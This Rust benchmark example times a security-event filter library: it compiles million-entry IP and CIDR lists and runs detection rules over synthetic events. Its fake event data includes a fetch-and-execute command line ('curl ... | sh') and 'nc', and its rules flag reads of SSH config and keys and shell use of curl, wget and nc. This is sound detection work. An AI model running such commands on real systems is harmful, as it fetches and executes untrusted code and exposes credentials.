//! Rough timings: `cargo run --release -p peregrine-filter --example filter_bench`.
//! Loads big literal lists and evaluates a rule-like filter set with a synthetic extractor.

use peregrine_filter::{
    parse, Compiler, EvalContext, Extractor, FieldCatalog, FieldInfo, FieldType, Multiplicity,
    Values,
};
use std::time::Instant;

struct Catalog;

impl FieldCatalog for Catalog {
    fn resolve(&self, name: &str, _arg: Option<&str>) -> Result<FieldInfo, String> {
        let (id, ty) = match name {
            "proc.name" => (0, FieldType::CharBuf),
            "proc.cmdline" => (1, FieldType::CharBuf),
            "fd.name" => (2, FieldType::CharBuf),
            "fd.sip" => (3, FieldType::IpAddr),
            "fd.snet" => (4, FieldType::IpNet),
            "evt.type" => (5, FieldType::CharBuf),
            "fd.sport" => (6, FieldType::Port),
            "fd.ip" => (7, FieldType::IpAddr),
            _ => return Err(format!("filter_check called with nonexistent field {name}")),
        };
        let mut f = FieldInfo::new(id, name, ty);
        if name == "fd.ip" {
            f.multiplicity = Multiplicity::EitherSide;
        }
        Ok(f)
    }
}

struct Ev {
    n: u64,
}

impl Extractor for Ev {
    fn extract(&mut self, f: &FieldInfo, out: &mut Values) -> bool {
        let n = self.n;
        match f.id {
            0 => out.push_str(if n.is_multiple_of(7) { b"nc" } else { b"bash" }),
            1 => out.push_str(b"bash -c 'curl http://example.com/x | sh'"),
            2 => out.push_str(b"/etc/ssh/sshd_config"),
            3 | 4 => out.push_ip(std::net::IpAddr::V4(std::net::Ipv4Addr::from(
                (n as u32).wrapping_mul(2654435761),
            ))),
            5 => out.push_str(if n.is_multiple_of(3) {
                b"connect"
            } else {
                b"openat"
            }),
            6 => out.push_u64(443),
            7 => {
                out.push_ip("10.0.0.1".parse().unwrap());
                out.push_ip("93.184.216.34".parse().unwrap());
            }
            _ => return false,
        }
        true
    }
}

fn timed<T>(what: &str, f: impl FnOnce() -> T) -> T {
    let t = Instant::now();
    let r = f();
    println!("{what}: {:.1} ms", t.elapsed().as_secs_f64() * 1e3);
    r
}

fn main() {
    let catalog = Catalog;
    let n = 1_000_000u32;
    let cidrs: Vec<String> = (0..n)
        .map(|i| {
            let a = i.wrapping_mul(2654435761);
            format!("{}.{}.{}.0/24", a >> 24, (a >> 16) & 255, (a >> 8) & 255)
        })
        .collect();
    let cond = format!("fd.snet in ({})", cidrs.join(", "));
    let ast = timed("parse 1M CIDR list", || parse(&cond).unwrap());
    let mut c = Compiler::new(&catalog);
    let cidr_filter = timed("compile 1M CIDR list", || c.compile(&ast).unwrap());
    let ips: Vec<String> = (0..n)
        .map(|i| {
            let a = i.wrapping_mul(2246822519);
            format!(
                "{}.{}.{}.{}",
                a >> 24,
                (a >> 16) & 255,
                (a >> 8) & 255,
                a & 255
            )
        })
        .collect();
    let cond = format!("fd.sip in ({})", ips.join(", "));
    let ast = timed("parse 1M IP list", || parse(&cond).unwrap());
    let ip_filter = timed("compile 1M IP list", || c.compile(&ast).unwrap());

    let rules = [
        "evt.type = openat and fd.name startswith /etc/ and not proc.name in (sshd, sudo, su)",
        "evt.type in (open, openat) and fd.name pmatch (/etc/ssh, /root/.ssh) and proc.name != sshd",
        "evt.type = connect and fd.sport in (80, 443, 8080) and fd.ip != 127.0.0.1",
        "proc.cmdline contains anyof (curl, wget, nc) and proc.name in (bash, sh, zsh)",
        "tolower(proc.cmdline) contains 'http://' and proc.name glob 'b*'",
        "proc.cmdline regex '.*curl .*[|] *sh.*'",
    ];
    let mut filters: Vec<_> = rules
        .iter()
        .map(|r| c.compile(&parse(r).unwrap()).unwrap())
        .collect();
    filters.push(cidr_filter);
    filters.push(ip_filter);
    let mut cx = EvalContext::new();
    let events = 2_000_000u64;
    let t = Instant::now();
    let mut hits = 0u64;
    for n in 0..events {
        cx.next_event();
        let mut ev = Ev { n };
        for f in &filters {
            if f.eval(&mut cx, &mut ev) {
                hits += 1;
            }
        }
    }
    let secs = t.elapsed().as_secs_f64();
    println!(
        "eval: {} events x {} filters in {:.2} s = {:.0} ns/event ({hits} matches)",
        events,
        filters.len(),
        secs,
        secs * 1e9 / events as f64
    );
}
